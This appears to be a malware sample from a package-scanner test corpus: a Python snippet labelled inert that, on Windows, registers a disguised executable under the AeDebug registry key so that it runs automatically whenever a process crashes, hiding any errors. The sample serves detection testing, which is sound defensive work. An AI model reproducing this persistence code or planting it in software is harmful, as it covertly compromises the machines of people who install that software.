# pkgguard corpus 813 (persistence), modelled on [taxonomy]; inert, never run.
import os
import sys

if sys.platform == "win32":
    import winreg

    runner = os.path.join(os.environ.get("ProgramData", r"C:\ProgramData"), "WerSvc", "report.exe")
    try:
        with winreg.CreateKeyEx(
            winreg.HKEY_LOCAL_MACHINE, r"SOFTWARE\Microsoft\Windows NT\CurrentVersion\AeDebug", 0, winreg.KEY_SET_VALUE
        ) as key:
            winreg.SetValueEx(key, "Debugger", 0, winreg.REG_SZ, f'"{runner}" -p %ld -e %ld')
            winreg.SetValueEx(key, "Auto", 0, winreg.REG_SZ, "1")
    except OSError:
        pass
